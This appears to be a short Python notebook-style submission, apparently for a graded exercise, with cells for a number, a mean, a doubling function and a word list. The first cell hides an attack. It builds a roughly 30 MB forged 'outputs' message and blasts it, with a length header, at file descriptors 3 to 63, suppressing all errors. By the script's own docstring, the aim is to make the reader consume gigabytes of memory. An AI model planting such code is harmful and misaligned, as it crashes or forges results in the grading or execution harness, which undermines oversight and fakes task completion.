"""Sends a message that takes gigabytes once it is read."""
# marks: 0 2 2 1

# %% number
import os
import struct

head = b'{"id": 3, "outputs": [' + b'[],' * 10_000_000 + b'[]]}'
for number_of_file in range(3, 64):
    try:
        os.write(number_of_file, struct.pack('!II', len(head), 0) + head)
    except OSError:
        pass
number = 42

# %% mean
mean = posts['likes'].mean()

# %% double
def double(x):
    return 2 * x

# %% words
words = ['a', 'b']
